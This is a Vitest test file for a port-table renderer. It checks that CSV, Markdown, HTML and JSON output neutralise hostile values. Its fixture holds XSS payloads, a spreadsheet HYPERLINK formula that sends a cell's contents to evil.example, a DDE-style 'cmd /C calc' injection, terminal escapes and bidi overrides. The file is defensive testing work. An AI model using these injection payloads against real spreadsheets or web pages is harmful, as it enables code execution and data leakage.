import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parsePortTable } from '../../src/cables/loadPortTable.js';
import { PORT_TABLE_FORMAT, PortVerdict, type PortRow, type PortTable } from '../../src/cables/portTable.js';
import {
  csvField,
  PORT_TABLE_COLUMNS,
  portTableFormatFor,
  renderPortTable,
  visibleText,
  writePortTable,
} from '../../src/cables/portTableRender.js';
import { launchChromium, skipBrowserTests } from '../report/browser.js';
import { inputError } from '../support/inputError.js';

/**
 * The port table's four file formats on a table with every verdict and hostile text in every
 * operator- or host-supplied field: it must stay data in each (no markup, no Markdown structure,
 * no spreadsheet formula, no terminal escape), and the JSON must be the contract, byte for byte
 * what the loader reads back.
 */

const HOSTILE = {
  label: 'slot 1 | port 2 <script>alert(1)</script>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+1+cmd|\' /C calc\'!A0',
  minus: '-2+3',
  at: '@SUM(1,2)',
  blankFormula: '  =1+1',
  markdown: '**bold** [x](javascript:alert(1)) `code` ![i](http://evil.example/i.png) _u_ ~s~',
  html: '<img src=x onerror="alert(2)"><a href="http://evil.example">a</a>&amp;',
  terminal: 'red\u001b[31m bell\u0007 csi\u009b2J',
  bidi: 'abc\u202edcba',
  lines: 'first line\r\nsecond, "quoted", line\nthird',
  autolink: 'see www.evil.example or http://evil.example or a@evil.example',
} as const;

const HOST_A = 'h1<b>"x"</b>';
const HOST_B = 'h2|=cmd';

function row(device: string, verdict: PortVerdict, label: string | null, detail: string, over: Partial<PortRow> = {}): PortRow {
  return {
    host: HOST_A,
    device,
    mac: `02:00:00:01:00:${device.slice(-1).padStart(2, '0')}`,
    pciSlot: `0000:0${device.slice(-1)}:00.0`,
    driver: 'e1000e',
    speedMbps: 1000,
    label,
    role: null,
    peer: null,
    verdict,
    detail,
    observedAt: '2026-11-25T12:00:00.000Z',
    rehearsal: null,
    ...over,
  };
}

/** One row per verdict, each with hostile text somewhere; roles, peers and rehearsals too. */
const TABLE: PortTable = {
  format: PORT_TABLE_FORMAT,
  createdAt: '2026-11-25T12:10:00.000Z',
  profile: 'everrun-6.0 <i>x</i>',
  hosts: [
    { name: HOST_A, address: 'root@10.0.0.11' },
    { name: HOST_B, address: 'root@10.0.0.12' },
  ],
  rows: [
    row('eth0', 'ok', HOSTILE.label, HOSTILE.html, { role: 'management' }),
    row('eth1', 'crossed', HOSTILE.formula, HOSTILE.lines, { role: 'alink1', peer: { host: HOST_B, device: 'eth2', mac: null } }),
    row('eth2', 'wrong-peer', HOSTILE.plus, HOSTILE.markdown, { role: 'alink2' }),
    row('eth3', 'no-change', HOSTILE.minus, HOSTILE.terminal, { role: 'production', speedMbps: null }),
    row('eth4', 'carrier-not-back', HOSTILE.at, HOSTILE.bidi, { role: 'bond', driver: null, mac: null, pciSlot: null }),
    row('eth5', 'no-carrier', HOSTILE.blankFormula, HOSTILE.autolink),
    row('eth6', 'skipped', null, 'the operator skipped it', {
      rehearsal: { verdict: 'failed', detail: HOSTILE.plus, checkedAt: '2026-11-25T12:05:00.000Z' },
    }),
    row('eth7', 'not-tested', HOSTILE.markdown, 'the walkthrough ended before it', {
      host: HOST_B,
      speedMbps: 100,
      rehearsal: { verdict: 'ok', detail: 'pulled eth1; still reached over eth2', checkedAt: '2026-11-25T12:06:00.000Z' },
    }),
  ],
};

it('the table holds every verdict', () => {
  expect(new Set(TABLE.rows.map((r) => r.verdict))).toEqual(new Set(PortVerdict.options));
});

/** The cells a reader must see for a row (before any format's own escaping). */
function expectedCells(r: PortRow): string[] {
  const role = { management: 'management', alink1: 'A-link 1', alink2: 'A-link 2', production: 'production', bond: 'bond with eth0' };
  return [
    r.host,
    r.device,
    r.mac ?? '',
    r.pciSlot ?? '',
    r.driver ?? '',
    r.speedMbps === null ? '' : r.speedMbps === 1000 ? '1 Gb/s' : `${r.speedMbps} Mb/s`,
    r.label ?? '',
    r.role ? role[r.role] : '',
    r.peer ? `${r.peer.host}:${r.peer.device}` : '',
    r.verdict,
    r.detail,
    r.rehearsal ? `${r.rehearsal.verdict}: ${r.rehearsal.detail}` : '',
  ].map(visibleText);
}

const NO_CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('output format from the --out extension', () => {
  it.each([
    ['ports.md', 'markdown'],
    ['ports.MARKDOWN', 'markdown'],
    ['dir.x/ports.csv', 'csv'],
    ['ports.json', 'json'],
    ['ports.html', 'html'],
    ['ports.htm', 'html'],
  ])('%s is %s', (path, format) => expect(portTableFormatFor(path)).toBe(format));

  it.each(['ports.txt', 'ports', '.json', 'ports.xlsx'])('%s is refused, naming the file and the extensions', (path) => {
    const message = inputError(() => portTableFormatFor(path));
    expect(message).toContain(path);
    expect(message).toMatch(/\.md, \.csv, \.json, \.html/);
  });
});

describe('JSON', () => {
  it('is exactly the contract, pretty-printed, and the loader reads back the same table', async () => {
    const text = await renderPortTable(TABLE, 'json');
    expect(JSON.parse(text)).toEqual(TABLE);
    expect(text.split('\n')[1]).toBe(`  "format": "${PORT_TABLE_FORMAT}",`);
    expect(parsePortTable(text, 'ports.json')).toEqual(TABLE);
    // Same data; only the characters a terminal would obey are written as \u escapes.
    expect(text).not.toMatch(NO_CONTROLS);
    expect(text).toContain('csi\\u009b2J');
    expect(text.replace(/\\u(009b|202e)/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)))).toBe(JSON.stringify(TABLE, null, 2) + '\n');
  });

  it('a table that breaks the contract is never written', async () => {
    const broken = { ...TABLE, rows: [{ ...TABLE.rows[0]!, verdict: 'fine' }] } as unknown as PortTable;
    for (const f of ['json', 'csv', 'markdown', 'html'] as const) await expect(renderPortTable(broken, f)).rejects.toThrow(/rows\.0\.verdict/);
  });
});

/** A small RFC 4180 reader: quoted fields, doubled quotes, CRLF record ends, commas and line breaks inside quotes. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"') {
      if (field !== '') throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
      i++;
    } else if (ch === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (ch === '\n' || ch === '\r') {
      throw new Error(`a bare line break outside quotes at ${i}`);
    } else {
      field += ch;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length) throw new Error('the last record has no CRLF');
  return records;
}

describe('CSV', () => {
  it('round-trips through an RFC 4180 reader: a header row and one record per port, every cell as shown', async () => {
    const records = readCsv(await renderPortTable(TABLE, 'csv'));
    expect(records[0]).toEqual(['host', 'device', 'mac', 'pci_slot', 'driver', 'speed_mbps', 'label', 'role', 'peer', 'verdict', 'detail', 'rehearsal']);
    expect(records).toHaveLength(TABLE.rows.length + 1);
    TABLE.rows.forEach((r, i) => {
      const want = expectedCells(r);
      want[5] = r.speedMbps === null ? '' : String(r.speedMbps);
      const got = records[i + 1]!.map((c) => (/^'\s*[=+\-@]/.test(c) ? c.slice(1) : c));
      expect(got, r.device).toEqual(want);
    });
  });

  it('no cell can start a formula: = + - @ (also after blanks) get a leading apostrophe', async () => {
    const records = readCsv(await renderPortTable(TABLE, 'csv'));
    const cells = records.flat();
    expect(cells.filter((c) => /^\s*[=+\-@]/.test(c))).toEqual([]);
    for (const s of [HOSTILE.formula, HOSTILE.plus, HOSTILE.minus, HOSTILE.at, HOSTILE.blankFormula]) expect(cells).toContain(`'${s}`);
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('=1,"2"')).toBe('"\'=1,""2"""');
  });

  it('carries no terminal escape or bidi override, only their visible form', async () => {
    const text = await renderPortTable(TABLE, 'csv');
    expect(text).not.toMatch(NO_CONTROLS);
    expect(text).toContain('red\\x1b[31m bell\\x07 csi\\x9b2J');
    expect(text).toContain('abc\\u202edcba');
  });
});

/** Splits a Markdown table line into cells on pipes that are not backslash-escaped. */
function markdownCells(line: string): string[] {
  expect(line.startsWith('| ') && line.endsWith(' |'), line).toBe(true);
  const cells: string[] = [];
  let cur = '';
  for (let i = 1; i < line.length - 1; i++) {
    const ch = line[i]!;
    if (ch === '\\') {
      cur += ch + (line[i + 1] ?? '');
      i++;
    } else if (ch === '|') {
      cells.push(cur);
      cur = '';
    } else cur += ch;
  }
  cells.push(cur);
  return cells.map((c) => c.trim());
}

/** CommonMark: a backslash before ASCII punctuation stands for that character. */
const unescapeMarkdown = (s: string) => s.replace(/\\([!-/:-@[-`{-~])/g, '$1');

describe('Markdown', () => {
  it('a header line, the column row and one row per port, each with exactly the twelve cells', async () => {
    const text = await renderPortTable(TABLE, 'markdown');
    const lines = text.trimEnd().split('\n');
    expect(lines[0]).toBe('# Port table');
    expect(unescapeMarkdown(lines[2]!)).toContain(`${PORT_TABLE_FORMAT} · profile everrun-6.0 <i>x</i>`);
    const table = lines.filter((l) => l.startsWith('|'));
    expect(markdownCells(table[0]!)).toEqual([...PORT_TABLE_COLUMNS]);
    expect(table).toHaveLength(TABLE.rows.length + 2);
    TABLE.rows.forEach((r, i) => {
      const cells = markdownCells(table[i + 2]!);
      expect(cells, r.device).toHaveLength(PORT_TABLE_COLUMNS.length);
      expect(cells.map(unescapeMarkdown), r.device).toEqual(expectedCells(r).map((c) => c.trim()));
    });
  });

  it('pipes, markup, links and escapes stay text', async () => {
    const text = await renderPortTable(TABLE, 'markdown');
    // Every pipe in a value is escaped; every < [ ` * _ ~ ! & @ in a value is escaped too, and so
    // are the "://" of a URL and the dot of "www." (GFM autolinks).
    for (const line of text.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| host |') && !l.startsWith('| ---'))) {
      const inner = line.slice(2, -2).replace(/\\./g, '').replace(/ \| /g, '');
      expect(inner, line).not.toMatch(/[|<>[\]`*_~!&@]|:\/|www\./i);
    }
    expect(text).toContain('http\\://evil.example');
    expect(text).toContain('www\\.evil.example');
    expect(text).toContain('| 02:00:00:01:00:00 | 0000:00:00.0 |');
    expect(text).toContain('slot 1 \\| port 2 \\<script\\>');
    expect(text).toContain('h2\\|=cmd');
    expect(text).not.toMatch(NO_CONTROLS);
    expect(text).toContain('red\\\\x1b\\[31m');
  });
});

describe('HTML', () => {
  it('is one self-contained page: no script, no external URL, no event handler attribute', async () => {
    const html = await renderPortTable(TABLE, 'html');
    expect(html).toMatch(/^<!DOCTYPE html>/);
    expect(html).not.toMatch(/<script\b/i);
    expect(html).not.toMatch(/<(img|a|link|iframe)\b/i);
    expect(html).not.toMatch(/\son\w+=/i);
    expect(html).not.toMatch(NO_CONTROLS);
    expect(html).not.toContain('<b>"x"</b>');
  });

  describe.skipIf(skipBrowserTests)('parsed by Chromium', () => {
    let browser: Browser;
    beforeAll(async () => {
      browser = await launchChromium();
    }, 60_000);
    afterAll(async () => {
      await browser?.close();
    });

    it('shows every hostile value as text, in its cell, and nothing runs or loads', async () => {
      const html = await renderPortTable(TABLE, 'html');
      const page = await browser.newPage();
      const requests: string[] = [];
      const dialogs: string[] = [];
      page.on('request', (r) => {
        if (!r.url().startsWith('data:') && r.url() !== 'about:blank') requests.push(r.url());
      });
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await page.setContent(html, { waitUntil: 'load' });
      const dom = await page.evaluate(() => ({
        scripts: document.querySelectorAll('script, img, a, iframe, object, embed, link').length,
        handlers: [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
        headers: [...document.querySelectorAll('thead th')].map((th) => th.textContent),
        rows: [...document.querySelectorAll('tbody tr')].map((tr) => ({ cls: tr.className, cells: [...tr.querySelectorAll('td')].map((td) => td.textContent) })),
        hosts: document.querySelector('.meta div:last-child dd')?.textContent ?? '',
        verdictColour: getComputedStyle(document.querySelector('tbody tr.verdict-bad td.verdict')!).color,
        okColour: getComputedStyle(document.querySelector('tbody tr.verdict-ok td.verdict')!).color,
      }));
      await page.close();
      expect(dom.scripts).toBe(0);
      expect(dom.handlers).toEqual([]);
      expect(requests).toEqual([]);
      expect(dialogs).toEqual([]);
      expect(dom.headers).toEqual([...PORT_TABLE_COLUMNS]);
      expect(dom.rows).toHaveLength(TABLE.rows.length);
      TABLE.rows.forEach((r, i) => expect(dom.rows[i]!.cells, r.device).toEqual(expectedCells(r)));
      expect(dom.rows.map((r) => r.cls)).toEqual(['verdict-ok', ...Array(5).fill('verdict-bad'), 'verdict-open', 'verdict-open']);
      expect(dom.hosts).toContain(HOST_A);
      // Verdict colours: a wrong cable is red, ok is green.
      expect(dom.verdictColour).toBe('rgb(180, 35, 24)');
      expect(dom.okColour).toBe('rgb(30, 107, 58)');
    });
  });
});

describe('writePortTable', () => {
  const dir = mkdtempSync(join(tmpdir(), 'pft-ports-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('writes each format by extension, atomically, and the JSON loads back', async () => {
    for (const ext of ['md', 'csv', 'json', 'html']) {
      const file = join(dir, `ports.${ext}`);
      await writePortTable(file, TABLE);
      expect(readFileSync(file, 'utf8')).toBe(await renderPortTable(TABLE, portTableFormatFor(file)));
    }
    expect(parsePortTable(readFileSync(join(dir, 'ports.json'), 'utf8'), 'ports.json')).toEqual(TABLE);
  });

  it('refuses an unknown extension before writing anything', async () => {
    await expect(writePortTable(join(dir, 'ports.txt'), TABLE)).rejects.toThrow(/ports\.txt: unknown extension/);
  });

  it('an unwritable path is a one-line input error', async () => {
    await expect(writePortTable(join(dir, 'missing', 'ports.csv'), TABLE)).rejects.toThrow(/ports\.csv: cannot write: ENOENT/);
  });
});
